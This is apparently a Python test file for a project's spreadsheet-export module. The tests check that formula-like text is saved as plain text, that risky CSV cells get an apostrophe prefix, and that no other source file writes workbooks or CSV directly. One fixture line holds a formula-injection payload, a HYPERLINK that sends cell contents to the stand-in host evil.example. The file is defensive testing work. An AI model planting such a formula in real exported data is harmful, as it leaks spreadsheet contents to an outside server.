"""Every cell that leaves for a spreadsheet leaves through ``ansinh.lib.sheets``: none runs as a formula."""

from __future__ import annotations

import io
import re
import zipfile
from pathlib import Path

import polars as pl
from openpyxl import Workbook, load_workbook

from ansinh.lib.sheets import neutralise_csv, save_workbook

SRC = Path(__file__).resolve().parents[2] / "src" / "ansinh"
INJECTION = '=HYPERLINK("http://evil.example/?q="&A1,"Bấm vào đây")'
# Writers of CSV that feed the database (COPY), not people.
DATABASE_LOADERS = {"dbframes.py"}


def _formulas(xlsx: bytes) -> int:
    with zipfile.ZipFile(io.BytesIO(xlsx)) as zf:
        return sum(len(re.findall(rb"<f[ >]", zf.read(n))) for n in zf.namelist() if n.startswith("xl/worksheets/"))


def test_a_saved_workbook_keeps_a_formula_like_text_as_text():
    wb = Workbook()
    wb.active.append(["Chủ hộ", INJECTION])
    out = io.BytesIO()
    save_workbook(wb, out)
    assert _formulas(out.getvalue()) == 0
    out.seek(0)
    assert load_workbook(out).active["B1"].value == INJECTION


def test_a_csv_cell_that_would_run_gets_an_apostrophe():
    frame = pl.DataFrame({"x": ["=1+1", "+84", "-3", "@SUM(A1)", "\tx", "Nguyễn"]})
    assert frame.select(neutralise_csv(pl.col("x")).alias("x"))["x"].to_list() == [
        "'=1+1",
        "'+84",
        "'-3",
        "'@SUM(A1)",
        "'\tx",
        "Nguyễn",
    ]


def test_no_workbook_is_saved_and_no_csv_written_anywhere_else():
    offenders = []
    for path in SRC.rglob("*.py"):
        rel = path.relative_to(SRC).as_posix()
        if rel == "lib/sheets.py":
            continue
        text = path.read_text(encoding="utf-8")
        if re.search(r"\b(wb|workbook|book|sheet)\.save\(", text) or "csv.writer(" in text or "csv.DictWriter(" in text:
            offenders.append(rel)
        if ".write_csv(" in text and rel not in DATABASE_LOADERS | {"imports/export.py"}:
            offenders.append(rel)
        if "Workbook(" in text and "save_workbook" not in text:
            offenders.append(rel)
    assert offenders == []
